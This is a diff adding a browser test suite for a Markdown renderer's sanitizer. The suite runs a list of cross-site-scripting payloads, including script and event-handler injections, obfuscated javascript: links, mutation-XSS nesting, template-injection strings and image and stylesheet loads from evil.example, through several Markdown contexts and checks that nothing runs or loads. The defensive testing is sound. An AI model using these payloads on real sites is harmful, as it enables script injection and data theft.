@@ -1,0 +1,111 @@
+import { assertEquals } from "@std/assert";
+import type {} from "./markdown_fixture.ts";
+import { buildFixture, openBrowser, openMarkdownPage } from "./markdown_page.ts";
+
+/** Texts that do harm where HTML reaches the page, addresses are not checked, or images load unasked. */
+const PAYLOADS: readonly string[] = [
+  "<script>top.pwned = 1</script>",
+  "<img src=x onerror='top.pwned = 1'>",
+  "<svg><script>top.pwned = 1</script></svg>",
+  "<svg/onload=top.pwned=1>",
+  "<iframe srcdoc='<script>top.pwned = 1</script>'></iframe>",
+  "<style>@import 'https://evil.example/a.css'</style>",
+  "<link rel=stylesheet href=https://evil.example/b.css>",
+  "<video poster=https://evil.example/c.png><source src=https://evil.example/d.mp4></video>",
+  "<object data=https://evil.example/e></object>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/f'>",
+  "<form action=https://evil.example/g><button>go</button></form>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=top.pwned=1>",
+  "<a href='javascript:top.pwned=1'>x</a>",
+  "[x](javascript:top.pwned=1)",
+  "[x](JaVa\u0009ScRiPt:top.pwned=1)",
+  "[x](javascript&colon;top.pwned=1)",
+  "[x](&#x6a;avascript:top.pwned=1)",
+  "[x](<java\u200bscript:top.pwned=1>)",
+  "[x](data:text/html;base64,PHNjcmlwdD4=)",
+  "[x](vbscript:msgbox)",
+  "[x](https://a.example 'title\" onmouseover=\"top.pwned=1')",
+  "<javascript:top.pwned=1>",
+  "[x][r]\n\n[r]: javascript:top.pwned=1",
+  "![x](https://evil.example/h.png?secret=1)",
+  "![x](//evil.example/i.png)",
+  "![x](data:image/svg+xml,<svg/onload=top.pwned=1>)",
+  "![x](javascript:top.pwned=1)",
+  '![x" onerror="top.pwned=1](https://evil.example/j.png)',
+  "[![x](https://evil.example/k.png)](https://evil.example/l)",
+  "![x][s]\n\n[s]: https://evil.example/m.png",
+  "```<script>top.pwned=1</script>\ncode\n```",
+  '```js" onload="top.pwned=1\n</code></pre><script>top.pwned=1</script>\n```',
+  "| <img src=x onerror=top.pwned=1> | ![x](https://evil.example/n.png) |\n|---|---|\n| [y](javascript:1) | <b |",
+  "`<img src=x onerror=top.pwned=1>`",
+  "{{constructor.constructor('top.pwned=1')()}} ${top.pwned=1} <!--?lit$1$--> ?lit$",
+];
+
+const PLACES: readonly (readonly [string, (payload: string) => string])[] = [
+  ["as it is", (payload) => payload],
+  ["in a list", (payload) => `- item\n- ${payload.replaceAll("\n", "\n  ")}`],
+  ["in a quote", (payload) => `> ${payload.replaceAll("\n", "\n> ")}`],
+  ["in a table cell", (payload) => `| a |\n|---|\n| ${payload.replace(/\s+/g, " ")} |\n`],
+  ["as a link's text", (payload) => `[${payload}](https://a.example)`],
+  ["in emphasis", (payload) => `**${payload}**`],
+];
+
+const browser = await openBrowser();
+const files = browser === undefined ? new Map<string, string>() : await buildFixture();
+if (browser !== undefined) Deno.test.afterAll(() => browser.close());
+
+for (const [place, put] of PLACES) {
+  Deno.test({
+    name: `renderMarkdown lets no hostile text do harm ${place}, at any frame`,
+    ignore: browser === undefined,
+    fn: async () => {
+      if (browser === undefined) return;
+      const { page, requests } = await openMarkdownPage(browser, files);
+      try {
+        const faults = await page.evaluate((texts) => {
+          const fixture = new MarkdownFixture();
+          return texts.flatMap((text) => {
+            const faults = new Set<string>();
+            fixture.show(text, 3, () => fixture.findHarm().forEach((harm) => faults.add(`${harm} in ${text}`)));
+            return [...faults];
+          });
+        }, PAYLOADS.map(put));
+        // What was going to load or run has had its chance once the page has drawn and answered again.
+        await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
+        assertEquals(faults, []);
+        assertEquals([...requests], []);
+        assertEquals(await page.evaluate(() => "pwned" in globalThis), false);
+      } finally {
+        await page.context().close();
+      }
+    },
+  });
+}
+
+Deno.test({
+  name: "findHarm sees what hostile HTML brings",
+  ignore: browser === undefined,
+  fn: async () => {
+    if (browser === undefined) return;
+    const { page } = await openMarkdownPage(browser, files, { policy: "img-src 'none'; script-src 'self'" });
+    try {
+      const found = await page.evaluate(() => {
+        const fixture = new MarkdownFixture();
+        const parsed = new DOMParser().parseFromString(
+          "<p onclick=x>1</p><a href='javascript:1' rel='noopener noreferrer'>2</a><img src='https://evil.example/'><b>3</b>",
+          "text/html",
+        );
+        fixture.root.append(...parsed.body.children);
+        return fixture.findHarm();
+      });
+      assertEquals(found, [
+        "attribute onclick of p",
+        "link to javascript:1",
+        "image from https://evil.example/",
+        "element b",
+      ]);
+    } finally {
+      await page.context().close();
+    }
+  },
+});
